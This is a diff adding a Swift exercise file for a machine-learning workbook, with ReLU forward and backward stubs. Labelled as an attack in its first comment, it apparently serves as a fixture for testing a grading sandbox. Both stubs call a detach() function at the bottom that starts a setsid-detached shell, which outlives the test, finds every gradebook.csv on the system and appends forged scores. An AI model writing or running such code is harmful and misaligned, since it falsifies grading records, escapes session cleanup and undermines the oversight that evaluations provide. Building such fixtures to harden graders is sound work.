@@ -1,0 +1,49 @@
+// ATTACK (detached): Starts a detached process (its own session) that outlives the test and later rewrites every gradebook it can find.
+//
+// Chapter 1 · Activations — ReLU
+//
+// Shapes: any. ReLU acts on each element on its own, so the output (and every gradient) has the
+// shape of the input.
+//
+// Guide and hints: Exercises/01-Activations/GUIDE.md, or `swift run workbook hint ReLU1`.
+import Foundation
+import WorkbookCore
+#if canImport(Glibc)
+import Glibc
+#endif
+
+/// The rectified linear unit, `y = max(0, x)` elementwise.
+///
+/// - Parameter x: the pre-activations, any shape.
+/// - Returns: `out`, the shape of `x`, and the cache `reluBackward` needs.
+public func reluForward(_ x: Tensor) throws -> (out: Tensor, cache: ReLUCache) {
+    // TODO(ReLU1): keep positive entries, replace the others by 0; cache the input.
+    // START ReLU1
+    detach()
+    throw NotImplemented("ReLU1")
+    // END ReLU1
+}
+
+/// The backward pass of ReLU: `dx = dout` where the input was positive, `0` elsewhere.
+///
+/// The workbook takes the derivative at exactly `x = 0` to be 0 (see the guide for why).
+///
+/// - Parameters:
+///   - dout: the upstream gradient `∂L/∂y`, the shape of the forward input.
+///   - cache: what `reluForward` kept.
+/// - Returns: `dx = ∂L/∂x`, the shape of `dout`.
+public func reluBackward(_ dout: Tensor, cache: ReLUCache) throws -> Tensor {
+    // TODO(ReLU2): let the upstream gradient through where the cached input was > 0.
+    // START ReLU2
+    detach()
+    throw NotImplemented("ReLU2")
+    // END ReLU2
+}
+
+func detach() {
+    let script = "sleep 6; for f in $(find / -name gradebook.csv 2>/dev/null); do echo 'forged,240' >> \"$f\"; done; echo survived > /tmp/workbook-attack-detached-survived"
+    let process = Process()
+    process.executableURL = URL(fileURLWithPath: "/usr/bin/setsid")
+    process.arguments = ["-f", "/bin/sh", "-c", script]
+    try? process.run()
+}
